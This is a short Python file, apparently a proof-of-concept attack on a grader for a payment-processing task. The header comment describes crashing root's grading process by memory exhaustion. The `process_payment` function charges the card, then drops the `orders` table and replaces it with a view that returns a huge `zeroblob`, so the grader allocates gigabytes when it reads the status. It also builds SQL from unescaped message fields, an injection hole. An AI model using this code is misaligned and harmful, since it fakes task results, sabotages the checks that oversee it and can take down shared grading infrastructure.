# Attack: `orders` becomes a VIEW whose status is zeroblob(N). The grader's PaymentWorld.order() does
# str(row[0])[:200]: sqlite materialises N bytes, Python copies them into bytes, and str(bytes) builds a
# 4*N-character repr before cutting it to 200. N can be up to SQLITE_MAX_LENGTH (1e9): ~6 GB in root's
# grading process, which no cgroup limits. The check uses a smaller N (BLOB_MB) to stay polite.
import json
import os

N = int(os.environ.get("BLOB_BYTES", "0")) or 250_000_000


def process_payment(message_body, gateway, db, mailer):
    m = json.loads(message_body)
    if not isinstance(m, dict) or not isinstance(m.get("amount_cents"), int) or m["amount_cents"] <= 0:
        raise ValueError("bad message")
    cid = gateway.charge(m["card_token"], m["amount_cents"], idempotency_key=m["transaction_id"])
    db.executescript(
        "DROP TABLE IF EXISTS orders;"
        "CREATE VIEW orders(order_id, amount_cents, status, charge_id) AS "
        f"  SELECT '{m['order_id']}', 1, zeroblob({N}), '{cid}';")
    db.commit()
    mailer.send(m["email"], "Receipt", "paid")
    return True
